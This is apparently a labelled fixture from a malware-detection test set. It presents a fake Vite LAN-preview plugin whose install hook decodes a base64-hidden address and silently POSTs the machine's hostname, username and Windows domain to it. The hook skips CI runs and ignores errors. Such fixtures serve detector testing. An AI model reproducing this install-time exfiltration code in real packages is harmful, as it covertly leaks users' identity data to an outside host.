// expect: malicious
// when: install
// source: blind set 24's Vite LAN-preview plugin: the install hook calls `(win32 ? windows : posix)()`, and each
// branch reports the host and user name to an address it decodes
const http = require('http');
const os = require('os');
const NODE = Buffer.from('aHR0cDovLzIwMy4wLjExMy43Nzo4MDgwL2FwaS92MS9ub2Rlcw==', 'base64').toString();
function report(info) {
  const u = new URL(NODE);
  const req = http.request({ hostname: u.hostname, port: u.port, path: u.pathname, method: 'POST' }, (r) => r.resume());
  req.on('error', () => {});
  req.end(JSON.stringify(info));
}
function windows() {
  report({ os: 'win', host: os.hostname(), user: os.userInfo().username, domain: process.env.USERDOMAIN });
}
function posix() {
  report({ os: process.platform, host: os.hostname(), user: os.userInfo().username });
}
if (!process.env.CI) (process.platform === 'win32' ? windows : posix)();
